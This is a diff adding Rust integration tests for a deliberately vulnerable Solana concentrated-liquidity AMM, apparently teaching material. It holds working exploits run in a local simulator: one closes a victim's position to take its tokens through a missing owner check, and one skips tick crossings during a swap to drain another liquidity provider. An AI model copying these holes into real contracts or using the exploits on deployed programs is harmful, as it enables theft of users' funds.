@@ -0,0 +1,233 @@
+// Integration tests for AMM-CL-VULNERABLE program
+//
+// WARNING: These tests demonstrate intentional security vulnerabilities for educational purposes.
+// These exploits show what can happen when proper security checks are missing.
+//
+// HOW TO RUN THESE TESTS:
+// From the project root directory:
+//   cd programs/amm/amm-cl-vulnerable
+//   cargo test-sbf
+//
+// Or to run a specific test:
+//   cargo test-sbf -- test_name
+//
+// Or with output logging:
+//   cargo test-sbf -- --nocapture
+
+mod utils;
+
+use litesvm::types::TransactionResult;
+use solana_sdk::signature::{Keypair, Signer};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use utils::*;
+
+// Alice's [-600, 600) deposit of LIQUIDITY at tick 0 (rounded up)
+const ALICE_DEPOSIT_A: u64 = 2_955_301_107;
+const ALICE_DEPOSIT_B: u64 = 2_955_301_083;
+
+// EXPLOIT: V001 - Missing owner check on close_position
+// Demonstrates: Attacker closes a victim's position and keeps its tokens
+struct CloseOtherUsersPosition;
+
+struct CloseState {
+    scenario: ClScenario,
+    victim: Keypair,
+    attacker: Keypair,
+}
+
+impl ExploitScenario for CloseOtherUsersPosition {
+    type State = CloseState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "Position Theft - Missing Owner Check on Close",
+            severity: Severity::Critical,
+            lesson: "Only a position's owner may close it: has_one = owner",
+        }
+    }
+
+    fn setup(&self) -> CloseState {
+        println!("This test demonstrates how closing positions without checking the owner");
+        println!("lets an attacker withdraw someone else's liquidity to their own accounts.");
+        println!();
+
+        let mut scenario = setup_cl_scenario();
+        let victim = create_trader(&mut scenario);
+        let attacker = create_trader(&mut scenario);
+
+        open_position(&mut scenario, &victim, -600, 600);
+        println!("[Setup] Victim opened [-600, 600): {} A + {} B deposited", ALICE_DEPOSIT_A, ALICE_DEPOSIT_B);
+
+        CloseState { scenario, victim, attacker }
+    }
+
+    fn exploit(&self, state: &mut CloseState) -> TransactionResult {
+        let CloseState { scenario, victim, attacker } = state;
+
+        println!();
+        println!("[EXPLOIT] Attacker closes the victim's position into their own token accounts");
+        println!("[EXPLOIT] In secure version, this should FAIL with Unauthorized");
+
+        let ix = build_close_position_ix(
+            &attacker.pubkey(),
+            &victim.pubkey(),
+            &scenario.token_a_mint,
+            &scenario.token_b_mint,
+            -600,
+            600,
+        );
+        send_ix(&mut scenario.svm, ix, attacker)
+    }
+
+    fn assert_impact(&self, state: &mut CloseState) -> u64 {
+        let CloseState { scenario, victim, attacker } = state;
+
+        println!();
+        println!("[RESULT] Close by attacker: SUCCESS");
+
+        // Payout rounds down by one atom per token
+        assert_eq!(balance_a(scenario, &attacker.pubkey()), TRADER_BALANCE + ALICE_DEPOSIT_A - 1);
+        assert_eq!(balance_b(scenario, &attacker.pubkey()), TRADER_BALANCE + ALICE_DEPOSIT_B - 1);
+        assert_eq!(balance_a(scenario, &victim.pubkey()), TRADER_BALANCE - ALICE_DEPOSIT_A);
+        println!("[IMPACT] Attacker received the victim's {} A and {} B", ALICE_DEPOSIT_A - 1, ALICE_DEPOSIT_B - 1);
+
+        let (position, _) = derive_position_pda(&scenario.pool, &victim.pubkey(), -600, 600);
+        assert!(
+            scenario.svm.get_account(&position).is_none_or(|a| a.lamports == 0),
+            "Position should be closed"
+        );
+        println!("[IMPACT] Victim's position is gone; there is nothing left to withdraw");
+
+        ALICE_DEPOSIT_A - 1
+    }
+}
+
+#[test]
+fn test_exploit_close_other_users_position() {
+    run_exploit(&CloseOtherUsersPosition);
+}
+
+// EXPLOIT: V002 - Caller-chosen tick crossings
+// Demonstrates: Skipping a range edge keeps liquidity active and drains another LP
+struct SkipTickCrossing;
+
+struct SkipTickState {
+    scenario: ClScenario,
+    bob: Keypair,
+    attacker: Keypair,
+}
+
+impl ExploitScenario for SkipTickCrossing {
+    type State = SkipTickState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V002",
+            title: "Tick Skipping - Caller-Chosen Tick Crossings",
+            severity: Severity::Critical,
+            lesson: "Take the next tick to cross from pool state; require its account, never skip it",
+        }
+    }
+
+    fn setup(&self) -> SkipTickState {
+        println!("This test demonstrates how letting the swapper choose which ticks to cross");
+        println!("keeps a position's liquidity trading past its range, paid for by other LPs.");
+        println!();
+
+        let mut scenario = setup_cl_scenario();
+        let alice = create_trader(&mut scenario);
+        let bob = create_trader(&mut scenario);
+        let attacker = create_trader(&mut scenario);
+
+        open_position(&mut scenario, &alice, -600, 600);
+        open_position(&mut scenario, &bob, 1200, 2400);
+        println!("[Setup] Alice provides [-600, 600) with {} A", ALICE_DEPOSIT_A);
+        println!("[Setup] Bob provides [1200, 2400), above the price: token A only");
+
+        SkipTickState { scenario, bob, attacker }
+    }
+
+    fn exploit(&self, state: &mut SkipTickState) -> TransactionResult {
+        let SkipTickState { scenario, attacker, .. } = state;
+
+        println!();
+        println!("[EXPLOIT] Attacker buys A with 4000 B and passes no tick accounts");
+        println!("[EXPLOIT] In secure version, this should FAIL with MissingTickAccount");
+
+        let ix = swap_ix(scenario, attacker, 4_000_000_000, 0, false, &[]);
+        send_ix(&mut scenario.svm, ix, attacker)
+    }
+
+    fn assert_impact(&self, state: &mut SkipTickState) -> u64 {
+        let SkipTickState { scenario, bob, attacker } = state;
+
+        println!();
+        println!("[RESULT] Swap without crossing tick 600: SUCCESS");
+
+        let received = balance_a(scenario, &attacker.pubkey()) - TRADER_BALANCE;
+        let pool = get_pool(&scenario.svm, &scenario.pool);
+        assert_eq!(received, 3_846_153_828);
+        assert!(received > ALICE_DEPOSIT_A);
+        assert_eq!(pool.current_tick, 784);
+        assert_eq!(pool.liquidity, LIQUIDITY, "Alice's liquidity is still active");
+        println!("[IMPACT] Price is at tick {}, outside Alice's range, yet her liquidity is still active", pool.current_tick);
+        println!("[IMPACT] Attacker received {} A; Alice only ever deposited {} A", received, ALICE_DEPOSIT_A);
+
+        // Bob is owed his full deposit but the vault no longer holds it
+        let ix = build_close_position_ix(
+            &bob.pubkey(),
+            &bob.pubkey(),
+            &scenario.token_a_mint,
+            &scenario.token_b_mint,
+            1200,
+            2400,
+        );
+        assert!(send_ix(&mut scenario.svm, ix, bob).is_err(), "Bob's close should fail");
+        println!("[IMPACT] Bob's close fails: the vault no longer holds his token A");
+
+        // Token A paid out beyond Alice's deposit came from Bob
+        received - ALICE_DEPOSIT_A
+    }
+}
+
+#[test]
+fn test_exploit_skip_tick_crossing() {
+    run_exploit(&SkipTickCrossing);
+}
+
+#[test]
+fn test_all_basic_operations_work() {
+    // Sanity check: the happy path still works in the vulnerable version
+    println!("\n[TEST START] test_all_basic_operations_work - Normal position lifecycle");
+
+    let mut scenario = setup_cl_scenario();
+    let alice = create_trader(&mut scenario);
+    let bob = create_trader(&mut scenario);
+    let trader = create_trader(&mut scenario);
+    let (mint_a, mint_b) = (scenario.token_a_mint, scenario.token_b_mint);
+
+    open_position(&mut scenario, &alice, -600, 600);
+    open_position(&mut scenario, &bob, 1200, 2400);
+    println!("[Success] Positions opened");
+
+    // Honest swaps pass every crossed tick
+    let start_price = get_pool(&scenario.svm, &scenario.pool).sqrt_price;
+    let ix = swap_ix(&scenario, &trader, 4_000_000_000, 3_794_504_788, false, &[600, 1200]);
+    send_ix(&mut scenario.svm, ix, &trader).expect("Swap B->A should succeed");
+    let ix = swap_ix(&scenario, &trader, 3_000_000_000, 3_199_132_251, true, &[1200, 600]);
+    send_ix(&mut scenario.svm, ix, &trader).expect("Swap A->B should succeed");
+    let pool = get_pool(&scenario.svm, &scenario.pool);
+    assert!(pool.sqrt_price > start_price);
+    assert_eq!(pool.current_tick, 159);
+    println!("[Success] Swaps crossed ticks both ways");
+
+    let ix = build_close_position_ix(&alice.pubkey(), &alice.pubkey(), &mint_a, &mint_b, -600, 600);
+    send_ix(&mut scenario.svm, ix, &alice).expect("Alice close should succeed");
+    let ix = build_close_position_ix(&bob.pubkey(), &bob.pubkey(), &mint_a, &mint_b, 1200, 2400);
+    send_ix(&mut scenario.svm, ix, &bob).expect("Bob close should succeed");
+    assert_eq!(get_pool(&scenario.svm, &scenario.pool).liquidity, 0);
+    println!("[Success] Positions closed");
+
+    println!("[TEST END] test_all_basic_operations_work");
+}